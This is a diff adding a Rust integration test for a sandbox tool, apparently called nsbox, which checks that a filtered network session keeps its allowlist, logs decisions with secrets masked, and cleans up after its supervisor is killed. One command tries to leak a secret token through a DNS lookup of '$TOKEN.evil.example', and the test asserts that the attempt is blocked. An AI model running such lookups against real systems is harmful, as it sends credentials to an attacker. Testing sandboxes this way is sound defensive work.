@@ -754,3 +754,112 @@ fn egress_flags_are_validated_before_anything_runs() {
     let r = exec(&["--allow", "203.0.113.7/24", "--", "true"]);
     assert!(r.stderr.contains("203.0.113.0/24"), "{}", r.stderr);
 }
+
+/// A session keeps its filtered network across commands: the allowlist holds in every exec,
+/// its decisions go to the session's network log, and stop (or a killed supervisor) leaves
+/// nothing behind.
+#[test]
+fn filtered_session_keeps_its_allowlist_and_logs_its_decisions() {
+    require_root!();
+    let w = World::start();
+    let run_dir = tempfile::tempdir().unwrap();
+    let nsbox = |args: &[&str]| -> Run {
+        w.nsbox_cmd(args)
+            .env("NSBOX_RUN_DIR", run_dir.path())
+            .stdin(Stdio::null())
+            .output()
+            .expect("run nsbox")
+            .into()
+    };
+    let mut create: Vec<String> = vec!["create".into()];
+    create.extend(w.filtered_flags());
+    create.extend(
+        [
+            "--allow",
+            "web.allowed.example",
+            "--log-network",
+            "--secret",
+            "TOKEN=tokensecret42",
+        ]
+        .map(String::from),
+    );
+    let args: Vec<&str> = create.iter().map(String::as_str).collect();
+    let r = nsbox(&args);
+    assert_eq!(r.code, 0, "{r:?}");
+    let id = r.stdout.trim().to_string();
+    let exec = |script: &str| nsbox(&["exec", "--session", &id, "--", "sh", "-c", script]);
+
+    let first = exec("curl -sS -m 5 http://web.allowed.example/");
+    assert_eq!(first.stdout.trim(), "hello from the fake internet", "{first:?}");
+    let second = exec(
+        "getent hosts other.example; echo getent=$?; getent hosts $TOKEN.evil.example; echo secret=$?",
+    );
+    assert_eq!(line(&second.stdout, "getent="), "getent=2", "{second:?}");
+    assert_eq!(line(&second.stdout, "secret="), "secret=2", "{second:?}");
+    // Once more in a later command: the policy did not loosen.
+    let third = exec(&format!("{PROBE} tcp {OTHER4}:80"));
+    assert_eq!(third.stdout.trim(), "error ECONNREFUSED", "{third:?}");
+
+    let log_path = run_dir
+        .path()
+        .join("sessions")
+        .join(&id)
+        .join("network.log");
+    assert!(
+        eventually(5.0, || std::fs::read_to_string(&log_path)
+            .is_ok_and(|l| l.contains("other.example"))),
+        "{:?}",
+        std::fs::read_to_string(&log_path)
+    );
+    let log = std::fs::read_to_string(&log_path).unwrap();
+    assert!(
+        log.lines()
+            .any(|l| l.contains("allowed") && l.contains("web.allowed.example")),
+        "{log}"
+    );
+    assert!(
+        log.lines()
+            .any(|l| l.contains("refused") && l.contains("other.example")),
+        "{log}"
+    );
+    assert!(!log.contains("tokensecret42"), "secrets are masked: {log}");
+    assert!(log.contains("***.evil.example"), "{log}");
+
+    // A killed supervisor takes the sandbox and its network along; prune removes the rest.
+    let record: serde_json::Value = serde_json::from_slice(
+        &std::fs::read(
+            run_dir
+                .path()
+                .join("sessions")
+                .join(&id)
+                .join("session.json"),
+        )
+        .unwrap(),
+    )
+    .unwrap();
+    let supervisor = record["supervisor_pid"].as_i64().unwrap() as i32;
+    let init = record["init_pid"].as_i64().unwrap() as i32;
+    let netns = std::fs::read_link(format!("/proc/{init}/ns/net")).unwrap();
+    rustix::process::kill_process(
+        rustix::process::Pid::from_raw(supervisor).unwrap(),
+        rustix::process::Signal::KILL,
+    )
+    .unwrap();
+    assert!(eventually(5.0, || !std::path::Path::new(&format!(
+        "/proc/{init}"
+    ))
+    .exists()));
+    let _serial = prune_lock();
+    std::thread::sleep(std::time::Duration::from_millis(1100));
+    let p = nsbox(&["prune"]);
+    assert_eq!(p.code, 0, "{p:?}");
+    assert!(leftover_cgroups(&id).is_empty());
+    assert!(!run_dir.path().join("sessions").join(&id).exists());
+    // No process on the host is in the sandbox's network namespace any more (it is gone).
+    let in_netns = std::fs::read_dir("/proc")
+        .unwrap()
+        .flatten()
+        .filter(|e| std::fs::read_link(e.path().join("ns/net")).is_ok_and(|l| l == netns))
+        .count();
+    assert_eq!(in_netns, 0, "processes left in {netns:?}");
+}
